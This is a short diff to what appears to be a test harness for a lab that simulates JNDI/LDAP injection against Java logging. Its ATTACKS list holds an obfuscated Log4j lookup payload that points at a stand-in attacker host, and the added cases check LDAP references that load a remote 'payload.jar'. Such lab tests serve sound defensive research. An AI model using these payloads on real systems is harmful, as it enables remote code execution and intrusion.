@@ -16,6 +16,10 @@ ATTACKS = [
     ("${${env:NOBODY_SETS_IT:-j}ndi:${lower:L}dap://%s/%s}" % (lab.ATTACKER, PARCEL), None,
      [lab.lookup_of("ldap://%s/%s" % (lab.ATTACKER, PARCEL)), lab.searched(PARCEL, port=389), lab.serialized("ldap", "java.util.HashMap")]),
     ("lookup %s%s" % (SERVER, LOCAL), "done Reference", [lab.searched(LOCAL), lab.local_reference()]),
+    ("lookup %scn=packed,dc=lab" % SERVER, "done payload-has-run",
+     [lab.searched("cn=packed,dc=lab"), lab.reference(codebase=lab.WEB + "payload.jar"), lab.FETCHED_JAR]),
+    ("lookup %scn=absent,dc=lab" % SERVER, "done Reference",
+     [lab.searched("cn=absent,dc=lab"), lab.reference(factory="Absent", classes={"has": ["Absent"]}), {"fetch": "failed", "java_client": True}]),
     # followed, it is asked for a second time
     ("refer %s%s" % (SERVER, ELSEWHERE), "done payload-has-run",
      [lab.searched(ELSEWHERE), {"stage": "referral", "ldap": {"result_code": "referral", "referrals": {"has": [SERVER + REMOTE + "??base"]}}},
